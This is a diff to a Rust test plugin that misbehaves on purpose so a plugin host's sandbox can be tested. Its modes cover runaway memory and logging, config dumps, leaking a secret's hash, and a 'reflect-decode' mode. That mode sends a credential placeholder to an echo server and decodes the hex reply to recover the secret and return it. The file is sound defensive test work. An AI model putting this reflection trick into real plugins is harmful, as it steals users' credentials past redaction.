@@ -1,5 +1,25 @@
 //! A provider plugin that misbehaves on purpose, chosen by its `mode` config key. The test
 //! suite uses it to show the host survives each case; it is never shipped.
+//!
+//! | mode | what it does in `start` |
+//! |---|---|
+//! | `ok` (default) | succeeds with session reference `ok` |
+//! | `loop` | spins forever |
+//! | `panic` | panics |
+//! | `memory` | allocates until the memory cap |
+//! | `recursion` | recurses until the stack runs out |
+//! | `fetch` | GETs the `target` URL (off the allowlist, a private address by name, a vendor that never answers …) |
+//! | `secret-probe` | asks the host to hash a secret it was not granted |
+//! | `huge-ref` | returns a 64 KiB session reference |
+//! | `huge-message` | fails with a 10 MiB message and 10 MiB vendor fields |
+//! | `huge-urls` | returns 100,000 issued URLs |
+//! | `huge-id` | returns a 1 MiB vendor task id |
+//! | `log-flood` | writes a 1 MiB log line, then log lines forever |
+//! | `config-dump` | fails with every config entry and the endpoint in its message |
+//! | `digest-leak` | logs and fails with the SHA-256 of the secret named by `secret` |
+//! | `placeholder-echo` | logs and fails with a placeholder for the secret named by `secret` |
+//! | `reflect` | POSTs a placeholder of `secret` to `target` (an echo server) and fails with the answer |
+//! | `reflect-decode` | as `reflect`, then decodes the hex echo to recover the secret and returns it: in an error (`out = "error"`, default) or a session (`out = "session"`) |
 
 use ingest_plugin_sdk::creds::{self, HashAlgorithm};
 use ingest_plugin_sdk::http::send;
@@ -9,6 +29,11 @@ struct Hostile;
 
 fn mode() -> String {
     config::get("mode").unwrap_or_else(|| "ok".to_string())
+}
+
+/// The secret named by the `secret` config key (a secret the provider was granted).
+fn secret_name() -> String {
+    config::get("secret").unwrap_or_else(|| "api_key".to_string())
 }
 
 /// Recurses until the stack runs out; the frame buffer keeps the compiler from turning the
@@ -39,8 +64,41 @@ fn session(r: &str) -> Session {
     }
 }
 
+fn fail(message: String) -> ProviderError {
+    error::new(ErrorKind::VendorInternal, message)
+}
+
+/// Sends a placeholder of the granted secret to `target` in the query and the body, and
+/// returns the answer's body as text.
+fn reflect() -> Result<String, ProviderError> {
+    let token = creds::placeholder(&[creds::secret(&secret_name())])?;
+    let target = config::get("target").unwrap_or_default();
+    let req = ::http::Request::post(format!("{target}/echo?k={token}"))
+        .header("x-token", token.as_str())
+        .body(format!("{{\"key\":\"{token}\"}}").into_bytes())
+        .map_err(|e| error::invalid_argument(format!("bad target: {e}")))?;
+    let resp = send(req)?;
+    Ok(String::from_utf8_lossy(resp.body()).into_owned())
+}
+
+/// Pulls the secret out of the echo server's `"hex"` field (the request body, hex-encoded):
+/// the host cannot recognise an encoded reflection, so this plugin now holds the secret.
+fn decode_reflection(answer: &str) -> Option<String> {
+    let start = answer.find("\"hex\":\"")? + 7;
+    let end = start + answer[start..].find('"')?;
+    let body = hex::decode(&answer[start..end]).ok()?;
+    let body = String::from_utf8(body).ok()?;
+    let value = body.strip_prefix("{\"key\":\"")?.strip_suffix("\"}")?;
+    Some(value.to_string())
+}
+
 impl Guest for Hostile {
     fn describe() -> ProviderInfo {
+        let key = |name: &str, description: &str| ConfigKey {
+            name: name.into(),
+            required: false,
+            description: description.into(),
+        };
         ProviderInfo {
             name: "test-hostile".to_string(),
             version: env!("CARGO_PKG_VERSION").to_string(),
@@ -53,16 +111,13 @@ impl Guest for Hostile {
             ],
             operations: vec![Operation::Start, Operation::Stop, Operation::Status],
             config_keys: vec![
-                ConfigKey {
-                    name: "mode".into(),
-                    required: false,
-                    description: "how to misbehave".into(),
-                },
-                ConfigKey {
-                    name: "target".into(),
-                    required: false,
-                    description: "URL for fetch modes".into(),
-                },
+                key("mode", "how to misbehave"),
+                key("target", "URL for fetch and reflect modes"),
+                key("secret", "name of a granted secret for the secret modes"),
+                key(
+                    "out",
+                    "where reflect-decode puts the secret: error or session",
+                ),
             ],
             secrets: vec![],
             default_hosts: vec![],
@@ -100,6 +155,103 @@ impl Guest for Hostile {
                 }
             }
             "huge-ref" => Ok(session(&"x".repeat(1 << 16))),
+            "huge-message" => {
+                let big = "m".repeat(10 << 20);
+                Err(ProviderError {
+                    kind: ErrorKind::VendorInternal,
+                    message: big.clone(),
+                    vendor_code: Some("c".repeat(1 << 20)),
+                    vendor_message: Some(big),
+                    vendor_request_id: Some("r".repeat(1 << 20)),
+                    retryable: false,
+                    retry_after_secs: None,
+                })
+            }
+            "huge-urls" => Ok(Session {
+                issued_urls: (0..100_000)
+                    .map(|i| IssuedUrl {
+                        purpose: UrlPurpose::Play,
+                        url: format!("https://cdn.example.com/live/stream-{i:06}.flv"),
+                    })
+                    .collect(),
+                ..session("urls")
+            }),
+            "huge-id" => Ok(Session {
+                vendor_task_id: Some("t".repeat(1 << 20)),
+                ..session("id")
+            }),
+            "log-flood" => {
+                log::log(
+                    log::Level::Info,
+                    &format!("flood-big {}", "b".repeat(1 << 20)),
+                );
+                let mut n: u64 = 0;
+                loop {
+                    n = n.wrapping_add(1);
+                    log::log(
+                        log::Level::Info,
+                        &format!("flood-line {n} {}", "f".repeat(1024)),
+                    );
+                }
+            }
+            "config-dump" => Err(fail(format!(
+                "config: {:?}; endpoint: {:?}",
+                config::entries(),
+                config::endpoint()
+            ))),
+            "digest-leak" => {
+                let digest =
+                    creds::digest_hex(HashAlgorithm::Sha256, &[creds::secret(&secret_name())])?;
+                log::log(log::Level::Warn, &format!("digest-leak {digest}"));
+                Err(fail(format!("digest-leak {digest}")))
+            }
+            "placeholder-echo" => {
+                let token = creds::placeholder(&[creds::secret(&secret_name())])?;
+                let basic = creds::basic_auth_placeholder(
+                    &[creds::text("user")],
+                    &[creds::secret(&secret_name())],
+                )?;
+                log::log(
+                    log::Level::Warn,
+                    &format!("placeholder-echo {token} {basic}"),
+                );
+                Err(ProviderError {
+                    vendor_request_id: Some(token.clone()),
+                    vendor_message: Some(basic.clone()),
+                    ..fail(format!("placeholder-echo {token} {basic}"))
+                })
+            }
+            "reflect" => {
+                let answer = reflect()?;
+                log::log(log::Level::Warn, &format!("reflect {answer}"));
+                Err(ProviderError {
+                    vendor_message: Some(answer.clone()),
+                    ..fail(format!("reflect {answer}"))
+                })
+            }
+            "reflect-decode" => {
+                let answer = reflect()?;
+                let Some(secret) = decode_reflection(&answer) else {
+                    return Err(fail(format!("no reflection to decode in {answer}")));
+                };
+                log::log(log::Level::Warn, &format!("reflect-decode {secret}"));
+                if config::get("out").as_deref() == Some("session") {
+                    Ok(Session {
+                        issued_urls: vec![IssuedUrl {
+                            purpose: UrlPurpose::Play,
+                            url: format!("https://cdn.example.com/{secret}"),
+                        }],
+                        ..session("stolen")
+                    })
+                } else {
+                    Err(ProviderError {
+                        vendor_request_id: Some(secret.clone()),
+                        vendor_code: Some(secret.clone()),
+                        vendor_message: Some(secret.clone()),
+                        ..fail(format!("reflect-decode {secret}"))
+                    })
+                }
+            }
             _ => Ok(session("ok")),
         }
     }
